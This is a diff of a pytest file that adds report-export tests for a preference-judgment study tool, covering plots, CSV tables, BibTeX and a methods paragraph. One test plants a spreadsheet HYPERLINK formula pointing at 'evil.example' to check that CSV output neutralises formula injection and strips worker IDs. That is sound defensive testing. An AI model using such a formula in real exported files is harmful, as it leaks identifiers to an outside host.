@@ -12,10 +12,12 @@ from shutil import copytree
 
 import pytest
 
+import prefjudge as prefjudge_library
 from prefjudge.cli.status import status as show_status
 from prefjudge.counts import many
 from prefjudge.engines.files import files
 from prefjudge.errors import InputError, StudyError
+from prefjudge.fieldwork.crowds import keep_marketplace_open
 from prefjudge.gather import judgments
 from prefjudge.gather.once import asking_once
 from prefjudge.steps.compare import compare
@@ -26,9 +28,25 @@ from prefjudge.steps.score.score import score
 from prefjudge.steps.status import status
 from prefjudge.study.logs import load_judgment_log
 from prefjudge.study.pooling import load_pool_sizes, load_pools
+from prefjudge.study.remarks import Remark, save_remarks
 from prefjudge.study.study import Study
 from tests.cli.conftest import prefjudge
-from tests.steps.test_release import judged as judged  # the fixture
+from tests.steps.conftest import climbing_study, let_all_work_at_once
+from tests.steps.test_release import judge
+
+
+@pytest.fixture(scope="module")
+def once_judged(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    study = climbing_study(tmp_path_factory.mktemp("judged") / "study")
+    let_all_work_at_once(study)
+    with keep_marketplace_open(Study(study)):
+        return judge(study)
+
+
+@pytest.fixture
+def judged(once_judged: Path, tmp_path: Path) -> Path:
+    """A copy for each test: a report reads a study, and a test may change it."""
+    return copytree(once_judged, tmp_path / "study")
 
 
 class Page(HTMLParser):
@@ -59,7 +77,9 @@ class Page(HTMLParser):
 
 def test_a_judged_study_is_shown_whole(judged: Path) -> None:
     done = report(judged)
-    assert done.sections == ("Leaderboards", "Outcomes", "Best answers", "Judging", "How it was made")
+    assert done.sections == (
+        "Leaderboards", "Outcomes", "Best answers", "Judging", "For a paper", "How it was made",
+    )  # fmt: skip
     few = [notice for notice in done.notices if "fewer than 15 queries hit" in notice]
     assert len(few) == 2  # 15 queries are few, and the page says so
     others = ("have several relevant documents", "judgments are simulated")
@@ -71,7 +91,7 @@ def test_a_judged_study_is_shown_whole(judged: Path) -> None:
     assert page.policy.startswith(f"default-src 'none'; script-src 'sha256-{pinned}'; ")
     assert "://" not in source.replace("http://www.w3.org/2000/svg", "")
     assert all(address.startswith(("#", "data:image/svg+xml;base64,")) for address in page.addresses)
-    assert done.plots == sum(address.startswith("data:") for address in page.addresses) == 2
+    assert done.plots == sum(address.startswith("data:") for address in page.addresses) == 7
     (changed,) = {*re.findall(r"another passage is preferred in (\d+)", page.text)}
     assert page.text.count("Preferred ") == min(int(changed), 12) > 0  # 12 are shown with their texts
     opened = Study(judged)
@@ -206,7 +226,7 @@ def test_what_drove_a_study_is_told(pooled: Path) -> None:
 
 def test_what_a_study_lacks_is_said(pooled: Path, tmp_path: Path) -> None:
     done = report(pooled, out=tmp_path / "page.html")
-    assert done.sections == ("Judging", "How it was made")
+    assert done.sections == ("Judging", "For a paper", "How it was made")
     assert done.notices == ("the study has no preference qrels yet", "the study has no judgments yet")
     page = Page(tmp_path / "page.html")
     assert all(notice in page.text for notice in done.notices)
@@ -233,6 +253,52 @@ def test_mistakes(judged: Path, tmp_path: Path) -> None:
     done = prefjudge("report", judged, "--out", tmp_path / "r.html")
     assert done.returncode == 0
     assert "wrote" in done.stderr
+
+
+def test_plots_tables_and_a_paragraph_for_a_paper_are_written(judged: Path, tmp_path: Path) -> None:
+    with Study(judged).transaction() as db:
+        (pair, assignment, worker) = db.execute(
+            "SELECT pair_id, assignment_id, worker_id FROM judgments ORDER BY judgment_id LIMIT 1"
+        )[0]
+        said = f'=HYPERLINK("https://evil.example/{worker}") says {worker}, ann@example.org'
+        remark = Remark(slot=99, pair_id=pair, unable="", comment=said)
+        save_remarks(db, assignment, [remark])
+    done = report(judged, plots=tmp_path / "plots", tables=("csv", tmp_path / "a" / "csv"), bibtex=True)
+    drawn, written = {*(tmp_path / "plots").iterdir()}, {*(tmp_path / "a" / "csv").glob("*.csv")}
+    names = {"old-against-new", "ranks", "win-ratios", "p-best", "pool-sizes", "time-and-money", "workers"}
+    assert {path.name for path in drawn} == {f"{name}.{form}" for name in names for form in ("svg", "png")}
+    beside = {judged / "report.bib", judged / "report.methods.tex"}
+    assert {*map(Path, done.files)} == drawn | written | beside
+    page = Page(Path(done.out)).text
+    assert page.count("The data of this plot") == done.plots == len(names)
+    (comments,) = (path.read_text() for path in written if "HYPERLINK" in path.read_text())
+    assert "\"'=HYPERLINK(" in comments
+    for text in (comments, page):
+        assert worker not in text
+        assert "example" not in text.split("HYPERLINK")[1]
+    paragraph, state = (judged / "report.methods.tex").read_text(), status(judged)
+    assert f"{state.judgments} judgments of " in paragraph
+    assert f"; {state.dropped_judgments} were dropped by screening" in paragraph
+    cited = {*re.findall(r"\\cite\{(\w+)\}", paragraph)}
+    assert cited == {*re.findall(r"@\w+\{(\w+),", (judged / "report.bib").read_text())}
+    assert len(cited) == 5
+
+
+def test_what_cannot_be_written_so_is_refused_before_any_work(judged: Path, tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("mine")
+    for options, message in (
+        ({"tables": ("docx", tmp_path)}, "docx: tables are not written so"),
+        ({"tables": ("csv", tmp_path / "file")}, "this is a file"),
+        ({"plots": tmp_path / "file"}, "this is a file"),
+        ({"plots": judged}, "the study's own folder"),
+        ({"tables": "csv"}, "it takes text and a path"),
+    ):
+        with pytest.raises(InputError, match=re.escape(message)):
+            prefjudge_library.report(judged, **options)  # type: ignore[arg-type]
+    assert not (judged / "report.html").exists()
+    done = prefjudge("report", judged, "--tables", "md", tmp_path / "md")
+    assert done.returncode == 0
+    assert "| run |" in (tmp_path / "md" / "leaderboards-1.md").read_text()
 
 
 def test_the_runs_are_read_once_for_all_sections_and_say_the_same(
